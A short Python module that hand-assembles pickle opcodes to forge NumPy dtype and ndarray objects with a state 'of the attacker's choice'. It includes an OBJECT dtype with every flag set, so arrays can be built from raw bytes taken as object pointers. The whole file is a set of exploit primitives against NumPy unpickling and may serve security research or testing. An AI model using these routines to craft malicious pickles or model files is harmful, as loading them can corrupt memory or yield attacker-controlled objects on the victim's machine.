"""Operations of pickles, written byte by byte."""

import pickle

HEADER = b"\x80\x04"


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def call(module, function, *arguments):
    """Return STACK_GLOBAL, a tuple of arguments and REDUCE."""
    return short(module) + short(function) + b"\x93(" + b"".join(arguments) + b"tR"


def dtype(code, state):
    """Return a NumPy type with a state of the attacker's choice."""
    created = call("numpy", "dtype", short(code), b"\x89", b"\x88")
    return created + b"(" + b"".join(pickle.dumps(part, 2)[2:-1] for part in state) + b"tb"


def array(dtype_bytes, content, shape=(1,)):
    kind = short("numpy") + short("ndarray") + b"\x93"
    created = call("numpy.core.multiarray", "_reconstruct", kind)[:-2] + b"K\x00\x85C\x01btR"
    shape_bytes = pickle.dumps(tuple(shape), 2)[2:-1]
    return created + b"(K\x01" + shape_bytes + dtype_bytes + b"\x89" + content + b"tb"


def built(code, order="<", size=-1, alignment=-1, flags=0, subtype=None, version=3):
    """Return a type without fields by the parts of its state."""
    return dtype(code, (version, order, subtype, None, None, size, alignment, flags))


BYTE, FLOAT, OBJECT = built("u1", "|"), built("f8"), built("O8", "|", flags=63)
